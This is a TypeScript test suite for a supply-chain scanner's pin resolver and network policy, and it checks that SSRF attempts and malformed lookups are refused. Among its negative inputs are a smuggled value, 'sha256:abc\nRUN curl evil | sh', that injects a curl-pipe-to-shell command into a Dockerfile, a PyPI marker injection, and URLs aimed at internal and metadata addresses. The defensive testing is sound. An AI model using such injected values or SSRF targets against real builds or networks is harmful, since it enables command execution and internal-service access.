// Opt-in pin lookups against real HTTP servers on 127.0.0.1 serving recorded registry responses (never the internet), and every refusal of the network policy.
import assert from 'node:assert/strict';
import type * as dns from 'node:dns';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import { analyzePython, analyzeText } from '../../../server/src/engine/analyze';
import type { Fix } from '../../../server/src/engine/finding';
import { fillLookupEdits, LOOKUP_SLOT } from '../../../server/src/plugins/supply-chain/network/fixes';
import { PinResolver, PUBLIC_ENDPOINTS, type ResolverOptions, splitImage } from '../../../server/src/plugins/supply-chain/network/pin-resolver';
import { blockedAddress, guardedLookup, hostMatches, type LookupFn, PUBLIC_HOSTS, refusal } from '../../../server/src/plugins/supply-chain/network/policy';
import { resolverOptionsFromEnv } from '../../../server/src/lsp/pin-lookup';
import { buildJsonReport } from '../../../server/src/output/json';
import { buildSarif } from '../../../server/src/output/sarif';
import { DEFAULT_SETTINGS } from '../../../server/src/shared/settings';
import { applyEdits, engineContext } from '../../helpers/engine';

interface Recorded { status: number; headers: Record<string, string>; body: unknown; authorized?: Recorded }
const recorded = JSON.parse(fs.readFileSync(path.join(__dirname, 'fixtures', 'recorded-registry.json'), 'utf8')) as Record<string, Recorded>;
const DIGEST = 'sha256:a6f42b2f7a3e0e2c4c4d1a4f2b0d3e9c1f7b8a6d5e4c3b2a1f0e9d8c7b6a5f4e';

/** A local server that counts TCP connections (a refused lookup must not even connect). */
interface Local { server: http.Server; base: string; port: number; connections: number; hits: string[] }
let a: Local; // the "registry": its origin is the one test-exempt origin
let b: Local; // the "internal service" a hostile answer points at: must never be reached

async function listen(handler: (req: http.IncomingMessage, res: http.ServerResponse, self: Local) => void): Promise<Local> {
  const self: Local = { server: http.createServer((req, res) => (self.hits.push(req.url ?? ''), handler(req, res, self))), base: '', port: 0, connections: 0, hits: [] };
  self.server.on('connection', () => self.connections++);
  await new Promise<void>((resolve) => self.server.listen(0, '127.0.0.1', resolve));
  self.port = (self.server.address() as AddressInfo).port;
  self.base = `http://127.0.0.1:${self.port}`;
  return self;
}

before(async () => {
  b = await listen((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"metadata":"internal","token":"t","sha":"1111111111111111111111111111111111111111"}'));
  a = await listen((req, res, self) => {
    const url = req.url ?? '';
    if (url.startsWith('/slow/')) return; // never answers: the client's timeout must end it
    const challenge = (realm: string) => res.writeHead(401, { 'www-authenticate': `Bearer realm="${realm}",service="registry.test"` }).end('{}');
    if (url === '/v2/library/redirect-away/manifests/1') return void res.writeHead(302, { location: `${b.base}/latest/meta-data/` }).end();
    if (url === '/repos/moved/repo/commits/v1') return void res.writeHead(301, { location: '/repos/actions/checkout/commits/v4' }).end();
    if (url === '/v2/library/realm-internal/manifests/1') return challenge(`${b.base}/token`);
    if (url === '/v2/library/realm-elsewhere/manifests/1') return challenge('https://metadata.internal.example/token');
    if (url === '/v2/library/realm-http/manifests/1') return challenge('http://auth.docker.io/token');
    let r = recorded[url];
    if (r?.authorized && req.headers.authorization === 'Bearer anonymous-pull-token') r = r.authorized;
    if (!r) return void res.writeHead(404, { 'content-type': 'application/json' }).end('{"message":"Not Found"}');
    const headers = Object.fromEntries(Object.entries(r.headers).map(([k, v]) => [k, v.replace('{base}', self.base)]));
    res.writeHead(r.status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(r.body));
  });
});
after(() => {
  for (const s of [a, b]) {
    s.server.closeAllConnections();
    s.server.close();
  }
});

/** DNS that never asks a resolver: records the names asked and answers from `table`. */
function fakeDns(table: Record<string, string[]>): { lookup: LookupFn; asked: string[] } {
  const asked: string[] = [];
  const lookup: LookupFn = (hostname, _options, callback) => {
    asked.push(hostname);
    const list = table[hostname];
    if (!list) return callback(Object.assign(new Error(`ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' }), '');
    callback(null, list.map((address): dns.LookupAddress => ({ address, family: address.includes(':') ? 6 : 4 })));
  };
  return { lookup, asked };
}

/** A resolver whose endpoints are server A, exempted as the one test origin (the injection only tests can make). */
function localResolver(extra: Partial<ResolverOptions> = {}, lookup?: LookupFn): PinResolver {
  const endpoints = { github: a.base, huggingface: a.base, pypi: a.base, registries: { 'docker.io': a.base } };
  return new PinResolver({ endpoints, timeoutMs: 2000, testing: { origins: [a.base], lookup }, ...extra });
}

test('image references split into registry host, repository and tag', () => {
  assert.deepEqual(splitImage('python:3.11-slim'), { host: 'docker.io', name: 'library/python', tag: '3.11-slim' });
  assert.deepEqual(splitImage('ghcr.io/org/img'), { host: 'ghcr.io', name: 'org/img', tag: 'latest' });
  assert.deepEqual(splitImage('localhost:5000/x:1'), { host: 'localhost:5000', name: 'x', tag: '1' });
  assert.deepEqual(splitImage('registry.example.com/team/img:2'), { host: 'registry.example.com', name: 'team/img', tag: '2' });
});

test('a long dotted or colon-ridden reference is refused at once, not backtracked over', () => {
  const t = performance.now();
  assert.equal(splitImage('a.'.repeat(20_000) + 'A'), undefined);
  assert.equal(splitImage('a:1'.repeat(20_000) + 'A'), undefined);
  assert.equal(splitImage('a.'.repeat(200) + 'A'), undefined);
  assert.ok(performance.now() - t < 500, 'bounded');
});

test('lookups: OCI digest via the bearer-token challenge, Action SHA, PyPI release with hashes, HF commit; a 404 is an error value', async () => {
  const r = localResolver();
  assert.deepEqual(await r.request('image:python:3.11-slim'), { value: DIGEST });
  assert.deepEqual(await r.request('action:actions/checkout@v4'), { value: '11bd71901bbe5b1630ceea73d27597364c9af683' });
  assert.deepEqual(await r.request('pypi:numpy'), { value: { version: '2.1.3', hashes: ['sha256:aa08e04e08aaf974d4458def539dece0d28146d866a39da5639596f4921fd761'] } });
  assert.deepEqual(await r.request('hf:models/org/model@main'), { value: '86b5e0934494bd15c9632b12f734a8a67f723594' });
  const missing = await r.request('action:nobody/nothing@v1');
  assert.ok('error' in missing && /HTTP 404/.test(missing.error), JSON.stringify(missing));
});

test('a redirect on the same host is followed (a renamed repository)', async () => {
  assert.deepEqual(await localResolver().request('action:moved/repo@v1'), { value: '11bd71901bbe5b1630ceea73d27597364c9af683' });
});

test('results (including failures) are cached and concurrent requests share one lookup', async () => {
  const r = localResolver();
  const before = a.hits.length;
  await Promise.all([r.request('action:actions/checkout@v4'), r.request('action:actions/checkout@v4')]);
  await r.request('action:actions/checkout@v4');
  assert.equal(a.hits.length - before, 1);
});

test('a server that never answers is cut off by the timeout and yields an error', async () => {
  const r = localResolver({ timeoutMs: 200, endpoints: { github: `${a.base}/slow`, huggingface: a.base, pypi: a.base, registries: {} } });
  const res = await r.request('action:a/b@v1');
  assert.ok('error' in res && /timed out/.test(res.error), JSON.stringify(res));
});

test('refused: a redirect to another host (the internal server is never contacted)', async () => {
  const res = await localResolver().request('image:redirect-away:1');
  assert.ok('error' in res && /redirect .* to another host/.test(res.error), JSON.stringify(res));
  assert.equal(b.connections, 0);
});

test('refused: a bearer realm on a host that is not allowed, internal or not; DNS is not even asked', async () => {
  const dnsCalls = fakeDns({});
  const r = localResolver({}, dnsCalls.lookup);
  const internal = await r.request('image:realm-internal:1');
  assert.ok('error' in internal && /refused/.test(internal.error), JSON.stringify(internal));
  const elsewhere = await r.request('image:realm-elsewhere:1');
  assert.ok('error' in elsewhere && /metadata\.internal\.example: not a known public registry/.test(elsewhere.error), JSON.stringify(elsewhere));
  assert.deepEqual(dnsCalls.asked, []);
  assert.equal(b.connections, 0);
});

test('refused: plain http, even to an allowed host (a realm, an endpoint)', async () => {
  const dnsCalls = fakeDns({});
  const realm = await localResolver({}, dnsCalls.lookup).request('image:realm-http:1');
  assert.ok('error' in realm && /https only/.test(realm.error), JSON.stringify(realm));
  const endpoint = await new PinResolver({ endpoints: { github: 'http://api.github.com', huggingface: '', pypi: '', registries: {} }, testing: { lookup: dnsCalls.lookup } }).request('action:a/b@v1');
  assert.ok('error' in endpoint && /https only/.test(endpoint.error), JSON.stringify(endpoint));
  assert.deepEqual(dnsCalls.asked, []);
});

test('refused: a registry host that is neither a known public registry nor user-listed', async () => {
  const dnsCalls = fakeDns({ 'registry.internal.example': ['10.1.2.3'] });
  const res = await localResolver({}, dnsCalls.lookup).request('image:registry.internal.example/team/app:1');
  assert.ok('error' in res && /registry\.internal\.example: not a known public registry nor listed in mlsec\.network\.allowedHosts/.test(res.error), JSON.stringify(res));
  assert.deepEqual(dnsCalls.asked, []);
});

test('refused: a user-listed name that resolves to loopback, private, link-local or mapped addresses (checked before connecting)', async () => {
  const names = { 'loop.corp.example': ['127.0.0.1'], 'ten.corp.example': ['10.0.0.7'], 'meta.corp.example': ['169.254.169.254'], 'six.corp.example': ['::1'], 'mapped.corp.example': ['::ffff:127.0.0.1'], 'mixed.corp.example': ['192.168.1.4'] };
  const dnsCalls = fakeDns(names);
  const r = localResolver({}, dnsCalls.lookup);
  r.setUserHosts(Object.keys(names).map((n) => `${n}:${a.port}`));
  const before = a.connections;
  for (const name of Object.keys(names)) {
    const res = await r.request(`image:${name}:${a.port}/app:1`);
    assert.ok('error' in res && new RegExp(`refused ${name.replace(/\./g, '\\.')}: it resolves to`).test(res.error), `${name}: ${JSON.stringify(res)}`);
  }
  assert.deepEqual(dnsCalls.asked.sort(), Object.keys(names).sort(), 'each name was resolved, then refused');
  assert.equal(a.connections, before, 'no connection was opened to the local server behind those names');
});

test('refused: localhost (real DNS) and an IP literal, even when the user lists them', async () => {
  const r = new PinResolver({ timeoutMs: 2000 });
  r.setUserHosts([`localhost:${a.port}`, `127.0.0.1:${a.port}`]);
  const before = a.connections;
  const byName = await r.request(`image:localhost:${a.port}/app:1`);
  assert.ok('error' in byName && /refused localhost: it resolves to/.test(byName.error), JSON.stringify(byName));
  const literal = await r.request(`image:127.0.0.1:${a.port}/app:1`);
  assert.ok('error' in literal && /loopback, private/.test(literal.error), JSON.stringify(literal));
  assert.equal(a.connections, before);
});

test('policy: public registries and user hosts pass the URL check; public addresses pass the address check', async () => {
  const policy = { userHosts: ['registry.corp.example', '*.mirror.example:8443'] };
  for (const u of ['https://registry-1.docker.io/v2/', 'https://us-docker.pkg.dev/v2/token', 'https://eu.gcr.io/v2/', 'https://public.ecr.aws/token/', 'https://registry.corp.example/v2/', 'https://a.mirror.example:8443/v2/']) assert.equal(refusal(new URL(u), policy), undefined, u);
  for (const u of ['https://pkg.dev/v2/', 'https://evilpkg.dev/v2/', 'https://registry-1.docker.io:8443/v2/', 'https://user:pw@ghcr.io/v2/', 'http://ghcr.io/v2/', 'https://a.mirror.example/v2/']) assert.notEqual(refusal(new URL(u), policy), undefined, u);
  assert.ok(hostMatches('ghcr.io', PUBLIC_HOSTS));
  // The built-in endpoints pass the built-in policy (no user hosts needed).
  for (const u of [PUBLIC_ENDPOINTS.github, PUBLIC_ENDPOINTS.huggingface, PUBLIC_ENDPOINTS.pypi, ...Object.values(PUBLIC_ENDPOINTS.registries)]) assert.equal(refusal(new URL(u), { userHosts: [] }), undefined, u);
  for (const ip of ['127.0.0.1', '10.0.0.1', '172.16.5.5', '192.168.0.1', '169.254.169.254', '100.64.0.1', '0.0.0.0', '::1', 'fe80::1', 'fd00::1', '::ffff:10.0.0.1', '::']) assert.ok(blockedAddress(ip), ip);
  for (const ip of ['8.8.8.8', '140.82.112.5', '2606:4700::1111']) assert.equal(blockedAddress(ip), undefined, ip);
  const { lookup } = fakeDns({ 'registry.corp.example': ['140.82.112.5'] });
  const answer = await new Promise<unknown>((resolve) => guardedLookup({ userHosts: [], testing: { lookup } })('registry.corp.example', {}, (err, address) => resolve(err ?? address)));
  assert.equal(answer, '140.82.112.5');
});

test('analysis never looks anything up: with network on, fixes carry a lookup key and a slot, and no request is made', async () => {
  const ctx0 = await engineContext();
  const before = a.hits.length + b.hits.length;
  const off = analyzeText('Dockerfile', 'FROM python:3.11-slim\n', ctx0);
  assert.ok(off.findings[0].fixes.every((f) => !f.lookup), 'no lookup fix unless mlsec.network.enabled');
  const ctx = { ...ctx0, settings: { ...DEFAULT_SETTINGS, network: { enabled: true } } };
  const cases: { file: string; text: string; value: string | { version: string; hashes: string[] }; fixed: string }[] = [
    { file: 'Dockerfile', text: 'FROM python:3.11-slim\n', value: DIGEST, fixed: `FROM python:3.11-slim@${DIGEST}\n` },
    { file: '.github/workflows/ci.yml', text: 'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n', value: '11bd71901bbe5b1630ceea73d27597364c9af683', fixed: 'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4\n' },
    { file: 'requirements.txt', text: 'numpy\n', value: { version: '2.1.3', hashes: [] }, fixed: 'numpy==2.1.3\n' },
  ];
  for (const c of cases) {
    const f = analyzeText(c.file, c.text, ctx).findings[0];
    const fix = f.fixes.find((x) => x.lookup) as Fix;
    assert.ok(fix && fix.edits.some((e) => e.newText.includes(LOOKUP_SLOT)), `${c.file}: ${JSON.stringify(f.fixes)}`);
    const fixed = applyEdits(c.text, fillLookupEdits(fix.lookup!, fix.edits, c.value)!);
    assert.equal(fixed, c.fixed);
    // A pin without hashes stays a note (no --hash); the warning itself is gone.
    assert.deepEqual(analyzeText(c.file, fixed, ctx).findings.filter((x) => x.severity !== 'note'), [], `${c.file}: the filled fix removes the finding`);
  }
  const py = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/model")\n';
  const hub = analyzePython('m.py', py, ctx).findings.find((f) => f.ruleId === 'model-revision-not-pinned')!.fixes.find((x) => x.lookup)!;
  assert.equal(hub.lookup, 'hf:models/org/model@main');
  const pinned = applyEdits(py, fillLookupEdits(hub.lookup!, hub.edits, '86b5e0934494bd15c9632b12f734a8a67f723594')!);
  assert.deepEqual(analyzePython('m.py', pinned, ctx).findings, []);
  assert.equal(a.hits.length + b.hits.length, before, 'no request during analysis');
});

test('a looked-up value that does not have the promised shape is never written into the file', () => {
  const edits = [{ newText: `@${LOOKUP_SLOT}` }];
  assert.equal(fillLookupEdits('image:python:3', edits, 'sha256:abc\nRUN curl evil | sh'), undefined);
  assert.equal(fillLookupEdits('action:a/b@v1', edits, DIGEST), undefined);
  assert.equal(fillLookupEdits('pypi:numpy', edits, { version: '1.0 ; os_name=="nt"', hashes: [] }), undefined);
  assert.equal(fillLookupEdits('pypi:numpy', edits, '2.0'), undefined);
  assert.deepEqual(fillLookupEdits('image:python:3', edits, DIGEST), [{ newText: `@${DIGEST}` }]);
});

test('the protocol tests\' injection accepts only a plain 127.0.0.1 origin; anything else leaves the policy untouched', () => {
  assert.deepEqual(resolverOptionsFromEnv({}), {});
  for (const bad of ['http://10.0.0.1:80', 'http://localhost:8080', 'http://127.0.0.1:8080/x', 'https://127.0.0.1:1', 'http://127.0.0.1:1@evil.example', 'http://169.254.169.254:80']) assert.deepEqual(resolverOptionsFromEnv({ MLSEC_TEST_LOOKUP_ORIGIN: bad }), {}, bad);
  const ok = resolverOptionsFromEnv({ MLSEC_TEST_LOOKUP_ORIGIN: 'http://127.0.0.1:43210' });
  assert.deepEqual(ok.testing, { origins: ['http://127.0.0.1:43210'] });
  assert.equal(ok.endpoints?.pypi, 'http://127.0.0.1:43210');
});

test('reports never carry a lookup fix (its edits hold unfilled slots): JSON and SARIF keep only final fixes', async () => {
  const ctx0 = await engineContext();
  const ctx = { ...ctx0, settings: { ...DEFAULT_SETTINGS, network: { enabled: true } } };
  const analysis = analyzeText('/work/x/Dockerfile', 'FROM python:3.11-slim\n', ctx);
  assert.ok(analysis.findings[0].fixes.some((f) => f.lookup), 'the analysis has a lookup fix');
  const report = { registry: ctx.registry, root: '/work/x', analyses: [analysis] };
  const json = JSON.stringify(buildJsonReport(report));
  const sarif = JSON.stringify(buildSarif(report));
  for (const out of [json, sarif]) {
    assert.ok(!out.includes(LOOKUP_SLOT), 'no slot in the report');
    assert.match(out, /MLSEC-PLACEHOLDER/, 'the placeholder fix is still there');
  }
});
